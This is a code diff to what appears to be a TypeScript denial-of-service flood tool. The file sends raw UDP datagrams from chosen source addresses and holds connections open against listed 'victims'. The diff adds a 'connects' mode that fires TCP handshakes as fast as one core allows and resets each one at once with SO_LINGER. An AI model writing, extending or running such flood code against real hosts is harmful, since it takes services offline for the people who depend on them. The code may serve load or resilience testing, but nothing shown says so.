@@ -6,17 +6,22 @@ import { createHash, randomBytes } from 'node:crypto';
 import { connect } from 'node:net';
 import {
   AF_INET,
+  closeDescriptor,
+  connectSocket,
+  type Descriptor,
   openSocket,
   SO_SNDBUFFORCE,
   SOCK_DGRAM,
   SOCK_RAW,
+  SOCK_STREAM,
   SOL_SOCKET,
   sendMessage,
   setSocketOption,
 } from '../../src/platform/libc.ts';
 
 export interface Flood {
-  readonly kind: 'datagrams' | 'connections';
+  /** `connections` stay and say nonsense or nothing; `connects` are closed as soon as they stand. */
+  readonly kind: 'datagrams' | 'connections' | 'connects';
   /** IPv4 addresses of the victims. */
   readonly targets: readonly string[];
   readonly port: number;
@@ -29,6 +34,9 @@ export interface Flood {
 }
 
 const IPPROTO_RAW = 255;
+/** Closing resets the connection, so that ports are free again at once (socket(7), SO_LINGER). */
+const SO_LINGER = 13;
+const AT_ONCE = Buffer.from([1, 0, 0, 0, 0, 0, 0, 0]);
 const SOL_UDP = 17;
 const UDP_SEGMENT = 103;
 /** With our own source the kernel cuts one call into so many datagrams (udp(7), UDP_SEGMENT): what one core can send. */
@@ -46,6 +54,7 @@ process.stdin.resume().on('end', () => {
   process.exit(0);
 });
 if (flood.kind === 'datagrams') sendDatagrams(flood);
+else if (flood.kind === 'connects') sendConnects(flood);
 else for (let count = 0; count < (flood.atOnce ?? 200); count += 1) openConnection(count);
 
 function sendDatagrams({ targets, sources }: Flood): void {
@@ -119,6 +128,28 @@ function socketAddress(host: string): Buffer {
   address.writeUInt16BE(flood.port, 2);
   address.set(host.split('.').map(Number), 4);
   return address;
+}
+
+/** As many handshakes as one core can do; most are closed before the victim has accepted them. */
+function sendConnects({ targets }: Flood): void {
+  const addresses = targets.map(socketAddress);
+  const open: Descriptor[] = [];
+  const turn = (): void => {
+    for (let count = 0; count < LOT; count += 1) {
+      const fd = openSocket({ domain: AF_INET, type: SOCK_STREAM, protocol: 0 });
+      setSocketOption(fd, { level: SOL_SOCKET, name: SO_LINGER, value: AT_ONCE });
+      try {
+        connectSocket(fd, addresses[sent % addresses.length]!);
+      } catch {
+        // EINPROGRESS, or no port is free: that is what a flood is like.
+      }
+      open.push(fd);
+      sent += 1;
+      if (open.length > (flood.atOnce ?? 200)) closeDescriptor(open.shift()!);
+    }
+    setImmediate(turn);
+  };
+  turn();
 }
 
 /** Opens, says a little or nothing, and as soon as it is over opens the next. */
